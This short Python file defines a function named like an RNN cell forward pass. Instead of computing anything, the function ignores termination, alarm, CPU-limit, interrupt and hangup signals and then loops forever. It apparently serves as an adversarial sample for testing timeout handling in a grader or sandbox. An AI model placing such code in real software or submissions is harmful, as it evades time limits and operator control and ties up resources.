"""Ignores every signal that it can, and never ends."""

import signal

import numpy as np


def rnn_cell_forward(xt, a_prev, parameters):
    for number in (signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    while True:
        pass
